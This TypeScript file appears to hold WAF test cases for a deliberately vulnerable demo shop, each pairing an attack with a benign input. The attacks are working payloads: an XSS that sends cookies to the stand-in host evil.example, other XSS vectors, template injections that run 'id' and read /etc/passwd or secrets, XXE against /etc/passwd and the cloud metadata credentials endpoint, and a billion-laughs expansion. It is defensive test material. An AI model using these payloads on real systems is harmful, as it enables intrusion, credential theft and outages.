// Holes that run the client's words as markup or templates: cross-site scripting, template injection, XML entities.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the payloads are written so

import { ask, get, type Hole, post, send, uploadOf } from './hole.ts'

const pages: readonly Hole[] = [
  {
    name: 'reflected script in the search page',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: ask('/search', 'q', '<script>fetch("//evil.example/"+document.cookie)</script>'),
    proves: /<script>fetch\("\/\/evil/,
    benign: ask('/search', 'q', 'lantern'),
  },
  {
    name: 'an event handler that breaks out of an attribute',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: ask('/search', 'q', '" autofocus onfocus="alert(document.domain)'),
    proves: /value="" autofocus onfocus="alert\(/,
    benign: ask('/search', 'q', 'focus on "light" things'),
  },
  {
    name: 'an image that fails and runs',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: ask('/search', 'q', '<img/src=x onerror=alert`1`>'),
    proves: /<img\/src=x onerror=alert/,
    benign: ask('/search', 'q', 'tent < 2 kg & > 1 person'),
  },
  {
    name: 'an SVG that runs when it loads',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: get('/search?q=%3Csvg%2Fonload%3D%22%26%2397%3Blert(1)%22%3E'),
    proves: /<svg\/onload="&#97;lert\(1\)">/,
    benign: get('/search?q=svg+map+of+the+castle'),
  },
  {
    name: 'a stored script in a review',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: send('POST', '/products/4/reviews', {
      author: 'Eve',
      stars: 5,
      text: 'Nice <script>alert("stored-1")</script>',
    }),
    proof: get('/products/4/page'),
    proves: /<script>alert\("stored-1"\)<\/script>/,
    benign: send('POST', '/products/4/reviews', {
      author: 'Dora',
      stars: 5,
      text: 'Burns longer than ten hours. I <3 it!',
    }),
  },
  {
    name: 'a stored link with a script in the name of the author',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: send('POST', '/products/5/reviews', { author: '<a href="javascript:alert(2)">Eve</a>', text: 'Hello' }),
    proof: get('/products/5/page'),
    proves: /<a href="javascript:alert\(2\)">/,
    benign: send('POST', '/products/5/reviews', {
      author: 'Zoë O’Neill',
      text: 'The script on the box is hard to read.',
    }),
  },
  {
    name: 'a stored frame by JSON escapes',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: {
      ...send('POST', '/products/6/reviews', {}),
      body: '{"author":"Eve","text":"\\u003ciframe srcdoc=\\u0027\\u003cscript\\u003ealert(3)\\u003c/script\\u003e\\u0027\\u003e"}',
    },
    proof: get('/products/6/page'),
    proves: /<iframe srcdoc='<script>alert\(3\)/,
    benign: {
      ...send('POST', '/products/6/reviews', {}),
      body: '{"author":"Jos\\u00e9","text":"Sch\\u00f6n, \\u2764"}',
    },
  },
  {
    name: 'an uploaded page with a script',
    kind: 'xss',
    stoppedBy: 'waf',
    attack: uploadOf('note.html', 'text/html', '<html><script>alert(document.cookie)</script></html>'),
    proof: get('/uploads/note.html'),
    proves: /text\/html[\s\S]*<script>alert\(document\.cookie\)/,
    benign: uploadOf('note.txt', 'text/plain', 'Please pack it as a gift.\nThank you!\n'),
  },
]

const templates: readonly Hole[] = [
  {
    name: 'a template that calculates',
    kind: 'ssti',
    stoppedBy: 'waf',
    attack: send('POST', '/render', { template: 'Dear {{7*7191}}' }),
    proves: /Dear 50337/,
    benign: send('POST', '/render', { template: 'Dear {{name}}, your boots are ready.', name: 'Alice' }),
  },
  {
    name: 'a template that runs a command',
    kind: 'ssti',
    stoppedBy: 'waf',
    attack: send('POST', '/render', {
      template:
        "{{name.constructor.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    }),
    proves: /uid=33\(www-data\)/,
    benign: send('POST', '/render', { template: 'Hello {{ name }}! We process your order today.', name: 'Bob' }),
  },
  {
    name: 'a template that reads the environment, in another notation',
    kind: 'ssti',
    stoppedBy: 'waf',
    attack: send('POST', '/render', { template: '<%= process.env.SHOP_SECRET %>' }),
    proves: /postern-demo-secret-7f3a/,
    benign: send('POST', '/render', { template: 'Save 20 % this week, {{name}}. Our secret: wool.' }),
  },
  {
    name: 'a template in a value of the template',
    kind: 'ssti',
    stoppedBy: 'waf',
    attack: send('POST', '/render', { template: '${require("fs").readFileSync("/etc/passwd")}' }),
    proves: /root:x:0:0/,
    benign: send('POST', '/render', { template: 'Your total is $ 149.00. It does not require an answer.' }),
  },
]

const xml: readonly Hole[] = [
  {
    name: 'an external entity reads a file',
    kind: 'xxe',
    stoppedBy: 'waf',
    attack: post(
      '/import',
      'application/xml',
      '<?xml version="1.0"?><!DOCTYPE c [<!ENTITY x SYSTEM "file:///etc/passwd">]><catalog><item>&x;</item></catalog>',
    ),
    proves: /root:x:0:0/,
    benign: post(
      '/import',
      'application/xml',
      '<?xml version="1.0" encoding="UTF-8"?><catalog><item sku="boots">Trail boots</item><item>Tom &amp; Co</item></catalog>',
    ),
  },
  {
    name: 'an external entity reaches into the network',
    kind: 'xxe',
    stoppedBy: 'waf',
    attack: post(
      '/import',
      'text/xml',
      `<!DOCTYPE c [ <!ENTITY m SYSTEM 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'> ]>
<catalog><item>&m;</item></catalog>`,
    ),
    proves: /postern-shop-role/,
    benign: post('/import', 'text/xml', '<catalog><!-- spring --><item>Gate lantern, 10 h</item></catalog>'),
  },
  {
    name: 'entities that expand into each other',
    kind: 'xxe',
    stoppedBy: 'waf',
    attack: post(
      '/import',
      'application/xml',
      `<!DOCTYPE l [<!ENTITY a "lollol"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;">]>
<l><i>&d;</i></l>`,
    ),
    proves: /(?:lol){400}/,
    benign: post('/import', 'application/xml', '<l><i>lol &lt; rofl</i></l>'),
  },
]

export const markupHoles: readonly Hole[] = [...pages, ...templates, ...xml]
